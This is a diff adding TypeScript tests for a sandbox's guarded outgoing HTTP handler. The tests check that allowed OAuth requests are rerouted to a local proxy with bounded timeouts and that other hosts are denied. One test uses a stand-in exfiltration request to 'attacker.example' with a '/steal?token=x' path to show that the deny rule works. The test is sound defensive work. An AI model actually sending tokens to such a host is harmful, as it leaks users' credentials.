@@ -16,6 +16,7 @@ import {
   type RequestLogEntry,
 } from "../src/index.js";
 import { logEntry } from "../src/policy.js";
+import { guardedHandler } from "../src/outgoing.js";
 import { connect, syncToEnd } from "./connect.js";
 import { Sandbox } from "./sandbox.js";
 
@@ -47,6 +48,59 @@ describe("policy", () => {
   test("a log entry keeps query names and drops their values", () => {
     const entry = logEntry("get", "accounts.google.com", "/o/oauth2/v2/auth?client_id=abc&code=SECRET", { denied: true });
     assert.deepEqual(entry, { method: "GET", host: "accounts.google.com", path: "/o/oauth2/v2/auth", query: ["client_id", "code"], denied: true, routed: false });
+  });
+});
+
+describe("the guarded outgoing handler", () => {
+  /** A stand-in for the shim's request and options resources, recording what is set. */
+  const fakeRequest = (authority: string, path: string) => {
+    const state = { scheme: { tag: "HTTPS" } as { tag: string; val?: string }, authority, path };
+    return {
+      state,
+      method: () => ({ tag: "post" }),
+      scheme: () => state.scheme,
+      setScheme: (s: { tag: string }) => (state.scheme = s),
+      authority: () => state.authority,
+      setAuthority: (a: string) => (state.authority = a),
+      pathWithQuery: () => state.path,
+      setPathWithQuery: (p: string) => (state.path = p),
+    };
+  };
+  const fakeOptions = (connect?: bigint, firstByte?: bigint, between?: bigint) => {
+    const t = { connect, firstByte, between };
+    return {
+      t,
+      connectTimeout: () => t.connect,
+      setConnectTimeout: (v: bigint) => (t.connect = v),
+      firstByteTimeout: () => t.firstByte,
+      setFirstByteTimeout: (v: bigint) => (t.firstByte = v),
+      betweenBytesTimeout: () => t.between,
+      setBetweenBytesTimeout: (v: bigint) => (t.between = v),
+    };
+  };
+  const s = 1_000_000_000n;
+
+  test("routes an allowed request, keeps the component's shorter timeouts and bounds the rest", () => {
+    const sent: unknown[] = [];
+    const log: RequestLogEntry[] = [];
+    const handler = guardedHandler(sandboxPolicy("http://127.0.0.1:9999"), { handle: (r, o) => sent.push(r, o) }, (e) => log.push(e), () => fakeOptions());
+    const request = fakeRequest("oauth2.googleapis.com", "/token");
+    const options = fakeOptions(5n * s, 900n * s);
+    handler.handle(request, options);
+    assert.deepEqual(request.state, { scheme: { tag: "HTTP" }, authority: "127.0.0.1:9999", path: "/oauth2.googleapis.com/token" });
+    assert.deepEqual(options.t, { connect: 5n * s, firstByte: 120n * s, between: 60n * s });
+    assert.equal(sent.length, 2);
+    assert.deepEqual(log, [{ method: "POST", host: "oauth2.googleapis.com", path: "/token", query: [], denied: false, routed: true }]);
+  });
+
+  test("refuses a host off the list with HTTP-request-denied, before the shim sees it", () => {
+    const sent: unknown[] = [];
+    const handler = guardedHandler(sandboxPolicy("http://127.0.0.1:9999"), { handle: (r) => sent.push(r) }, () => {}, () => fakeOptions());
+    assert.throws(() => handler.handle(fakeRequest("attacker.example", "/steal?token=x"), undefined), (e: unknown) => {
+      assert.deepEqual(e, { tag: "HTTP-request-denied" });
+      return true;
+    });
+    assert.equal(sent.length, 0);
   });
 });
 
